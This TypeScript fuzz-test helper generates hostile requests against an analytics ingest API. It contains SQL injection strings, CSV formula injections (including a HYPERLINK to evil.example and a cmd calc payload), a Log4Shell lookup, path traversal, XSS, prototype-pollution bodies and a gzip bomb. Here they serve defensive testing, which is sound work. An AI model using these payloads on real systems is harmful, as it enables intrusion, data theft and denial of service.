import fc from 'fast-check';
import zlib from 'node:zlib';
import { randomUUID } from 'node:crypto';
import * as P from '../helpers/payloads.ts';

/** Generators of hostile HTTP requests for the fuzz test (fast-check arbitraries). */

export const SQL = [
  "' OR '1'='1",
  "'; DROP TABLE sessions; --",
  '1; SELECT * FROM api_keys',
  "' UNION SELECT key_hash, 1 FROM api_keys --",
  '{p:String}',
  '$1',
  "' || pg_sleep(5) || '",
  "') FORMAT CSV --",
  "\\'; SELECT sleep(3) --",
  '0x27 OR 1=1',
  '" OR ""="',
];
export const CSV_FORMULAS = [
  '=HYPERLINK("http://evil.example","click")',
  "+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '=1+1',
];
const WEIRD = [
  '__proto__',
  'constructor',
  'prototype',
  '\u0000',
  '\ud800',
  '\udfff',
  '\u202e',
  '💥',
  '../../etc/passwd',
  '%00',
  '<script>alert(1)</script>',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a Log4Shell lookup, literally, is the hostile value
  '${jndi:ldap://x}',
  '',
];
/** Numbers as literal text, so they reach the parser unrounded. */
export const BIG_NUMBERS = [
  '9007199254740993',
  '-9007199254740993',
  '18446744073709551616',
  '1e308',
  '-1e308',
  '1e400',
  '123456789012345678901234567890',
  '-1',
  '0',
  '-0',
  '1.5',
  '0.0000001',
  '253402300800000',
  '32503680000000',
  '-62135596800000',
  '10000000000001',
];

const hostileString = fc.oneof(
  fc.constantFrom(...SQL, ...CSV_FORMULAS, ...WEIRD),
  fc.string({ maxLength: 64 }),
  fc.string({ unit: 'binary', maxLength: 64 }),
  fc.integer({ min: 1000, max: 300_000 }).map((n) => 'x'.repeat(n)),
);

/** Any JSON value, and a few JS values that JSON.stringify turns into something odd. */
export const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 4, arbitrary: hostileString },
  {
    weight: 2,
    arbitrary: fc.constantFrom(
      2 ** 53 + 1,
      -(2 ** 53) - 1,
      1e308,
      -1,
      0,
      1.5,
      -0,
      2 ** 63,
      253402300800000,
      -62135596800000,
      Date.now() + 1e12,
    ),
  },
  { weight: 1, arbitrary: fc.constantFrom(null, true, false, [], {}, [null], { '': '' }) },
  { weight: 1, arbitrary: fc.jsonValue({ maxDepth: 4 }) },
  { weight: 1, arbitrary: fc.integer({ min: 501, max: 3000 }).map((n) => Array.from({ length: n }, (_, i) => i)) },
);

type Json = unknown;

function paths(v: Json, prefix: (string | number)[] = [], out: (string | number)[][] = []): (string | number)[][] {
  out.push(prefix);
  if (Array.isArray(v)) {
    for (const [i, x] of v.slice(0, 5).entries()) paths(x, [...prefix, i], out);
  } else if (v && typeof v === 'object')
    for (const k of Object.keys(v)) paths((v as Record<string, Json>)[k], [...prefix, k], out);
  return out;
}

function setAt(root: Json, path: (string | number)[], fn: (old: Json) => Json | undefined): Json {
  if (path.length === 0) return fn(root);
  const clone = JSON.parse(JSON.stringify(root));
  let cur = clone;
  for (const k of path.slice(0, -1)) cur = cur[k];
  const last = path[path.length - 1]!;
  const next = fn(cur[last]);
  if (next === undefined) {
    if (Array.isArray(cur)) cur.splice(Number(last), 1);
    else delete cur[last];
  } else cur[last] = next;
  return clone;
}

/** Valid SDK-shaped bodies per route, for sessions of the fuzzed project. */
export function validBody(route: string, sid: string): Json {
  switch (route) {
    case '/ingest/session':
      return P.sessionStart();
    case '/ingest/session/end':
      return { sessionId: sid, endedAt: P.T0 + 10_000 };
    case '/ingest/events': {
      const q = Math.floor(Math.random() * 1e6) * 4;
      return {
        sessionId: sid,
        events: [
          P.navigate(sid, q),
          P.networkEvent(sid, q + 1, 404),
          P.customEvent(sid, q + 2),
          P.tapEvent(sid, q + 3),
        ],
      };
    }
    case '/ingest/crash':
      return P.crash(sid, { timestamp: P.T0 + Math.floor(Math.random() * 1e9) });
    case '/ingest/network':
      return { sessionId: sid, requests: [P.networkRequest(), P.networkRequest({ statusCode: 500 })] };
    case '/api/projects':
      return { name: 'fuzz' };
    default:
      return { alertEmails: ['a@example.com'] };
  }
}

export interface Mutation {
  kind: string;
  apply(v: Json): Json;
}

/** Object-level mutations: a field replaced by a hostile value, removed, or the body wrapped. */
export const mutation: fc.Arbitrary<{ kind: string; pick: number; value: unknown }> = fc.record({
  kind: fc.constantFrom('set', 'set', 'set', 'delete', 'wrap', 'stringify-field', 'set-all-strings'),
  pick: fc.nat(),
  value: hostileValue,
});

export function mutate(body: Json, m: { kind: string; pick: number; value: unknown }): Json {
  const ps = paths(body);
  const p = ps[m.pick % ps.length]!;
  switch (m.kind) {
    case 'set':
      return setAt(body, p, () => m.value);
    case 'delete':
      return setAt(body, p, () => undefined) ?? null;
    case 'wrap':
      return setAt(body, p, (old) => [old]);
    case 'stringify-field':
      return setAt(body, p, (old) => (typeof old === 'string' ? old : (JSON.stringify(old) ?? 'null')));
    default: {
      // the same injection payload in every string field (SQL / CSV formulas where they would be stored)
      const payload = typeof m.value === 'string' && m.value.length < 2000 ? m.value : SQL[m.pick % SQL.length]!;
      return JSON.parse(JSON.stringify(body), (k, v) =>
        typeof v === 'string' &&
        k !== 'sessionId' &&
        k !== 'id' &&
        k !== 'type' &&
        k !== 'platform' &&
        k !== 'networkType'
          ? payload
          : v,
      );
    }
  }
}

/** Text-level mutations: what a JSON encoder never produces. */
export const textMutation = fc.oneof(
  fc.constant((t: string) => `{"__proto__":{"polluted":1},${t.slice(1)}`),
  fc.constant((t: string) => `{"constructor":{"prototype":{"polluted":1}},${t.slice(1)}`),
  fc.constantFrom(...BIG_NUMBERS).map((n) => (t: string) => t.replace(/(-?\d+)(?=[,}])/, n)),
  fc.constantFrom(...BIG_NUMBERS).map((n) => (t: string) => t.replace(/(-?\d+)(?=[,}])/g, n)),
  fc.nat().map((k) => (t: string) => t.slice(0, k % (t.length + 1))),
  fc.tuple(fc.nat(), fc.integer({ min: 0, max: 255 })).map(([k, b]) => (t: string) => {
    const i = k % Math.max(1, t.length);
    return t.slice(0, i) + String.fromCharCode(b) + t.slice(i + 1);
  }),
  fc.constant((t: string) => t.replace(/"([^"]*)"/, '"\\ud800\\udc00\\ud800"')),
  fc.constant((t: string) => t + t),
);

/** Bodies that are hostile as a whole. */
const DEEP = 100_000;
export const wholeBodies: fc.Arbitrary<{ name: string; body: Buffer | string; headers?: Record<string, string> }> =
  fc.oneof(
    fc.integer({ min: 10, max: DEEP }).map((n) => ({ name: 'deep-array', body: '['.repeat(n) + ']'.repeat(n) })),
    fc
      .integer({ min: 10, max: DEEP })
      .map((n) => ({ name: 'deep-object', body: `${'{"a":'.repeat(n)}1${'}'.repeat(n)}` })),
    fc.integer({ min: 10, max: 20_000 }).map((n) => ({ name: 'deep-properties', body: `PROPS:${n}` })),
    fc.constantFrom(
      {
        name: 'invalid-utf8',
        body: Buffer.from([0x7b, 0x22, 0x61, 0x22, 0x3a, 0x22, 0xff, 0xfe, 0xc0, 0xaf, 0xed, 0xa0, 0x80, 0x22, 0x7d]),
      },
      {
        name: 'utf16',
        body: Buffer.from('{"sessionId":"x"}', 'utf16le'),
        headers: { 'content-type': 'application/json; charset=utf-16' },
      },
      { name: 'empty', body: '' },
      { name: 'nul', body: '\u0000' },
      { name: 'bom', body: '\ufeff{}' },
      {
        name: 'form',
        body: 'sessionId=1&events[0]=x',
        headers: { 'content-type': 'application/x-www-form-urlencoded' },
      },
      { name: 'xml', body: '<?xml version="1.0"?><a/>', headers: { 'content-type': 'application/xml' } },
      { name: 'text', body: 'hello', headers: { 'content-type': 'text/plain' } },
      {
        name: 'multipart',
        body: '--x\r\nContent-Disposition: form-data; name="a"\r\n\r\n1\r\n--x--',
        headers: { 'content-type': 'multipart/form-data; boundary=x' },
      },
      { name: 'no-content-type', body: '{}', headers: { 'content-type': '' } },
      { name: 'ct-garbage', body: '{}', headers: { 'content-type': ';;;=\u0001' } },
      { name: 'gzip-invalid', body: Buffer.from('not gzip at all'), headers: { 'content-encoding': 'gzip' } },
      { name: 'br', body: '{}', headers: { 'content-encoding': 'br' } },
      { name: 'too-large', body: 'LARGE' },
      { name: 'gzip-bomb', body: 'BOMB' },
    ) as fc.Arbitrary<{ name: string; body: Buffer | string; headers?: Record<string, string> }>,
  );

let bomb: Buffer | undefined;
let large: string | undefined;
/** Expands the placeholders of wholeBodies (built once: they are big). */
export function materialise(b: { name: string; body: Buffer | string; headers?: Record<string, string> }, sid: string) {
  if (b.body === 'BOMB') {
    // 1 GiB of zeros in ~1 MB of gzip, and a JSON-looking bomb: both must stop at the body limit.
    bomb ??= zlib.gzipSync(Buffer.alloc(256 * 1024 * 1024), { level: 9 });
    return { body: bomb, headers: { 'content-encoding': 'gzip', 'content-type': 'application/json' } };
  }
  if (b.body === 'LARGE') {
    large ??= JSON.stringify({
      sessionId: sid,
      events: [{ ...P.customEvent(sid, 0), properties: { blob: 'y'.repeat(6 * 1024 * 1024) } }],
    });
    return { body: large, headers: {} };
  }
  if (typeof b.body === 'string' && b.body.startsWith('PROPS:')) {
    const n = Number(b.body.slice(6));
    const props = `${'{"a":'.repeat(n)}1${'}'.repeat(n)}`;
    const ev = JSON.stringify({ ...P.customEvent(sid, 7), properties: { PLACEHOLDER: 1 } }).replace(
      '{"PLACEHOLDER":1}',
      props,
    );
    return { body: `{"sessionId":"${sid}","events":[${ev}]}`, headers: {} };
  }
  return { body: b.body, headers: b.headers ?? {} };
}

export const queryString = fc.oneof(
  { weight: 3, arbitrary: fc.constant('') },
  {
    weight: 5,
    arbitrary: fc
      .array(
        fc.tuple(
          fc.constantFrom(
            'page',
            'limit',
            'format',
            'from',
            'to',
            'sessionId',
            '__proto__',
            'constructor[prototype][x]',
            'page[]',
            'x',
          ),
          fc.oneof(
            hostileString,
            fc.constantFrom(...BIG_NUMBERS),
            fc.constantFrom(
              'csv',
              'json',
              'xml',
              '2026-01-01',
              '2026-13-45',
              '0',
              '-1',
              '1001',
              '1e3',
              'NaN',
              'Infinity',
              '',
            ),
          ),
        ),
        { maxLength: 6 },
      )
      .map(
        (kv) =>
          '?' +
          kv
            .map(
              ([k, v]) =>
                `${encodeURIComponent(k)}=${encodeURIComponent(
                  String(v)
                    .slice(0, 4000)
                    .replace(/[\ud800-\udfff]/g, '?'),
                )}`,
            )
            .join('&'),
      ),
  },
  {
    weight: 1,
    arbitrary: fc.constantFrom(
      '?%',
      '?%zz=1',
      '?page=%00',
      '?&&&==&',
      '?page=1&page=2',
      `?a=${'%ff'.repeat(100)}`,
      `?${'x'.repeat(20_000)}`,
    ),
  },
);

export { randomUUID };
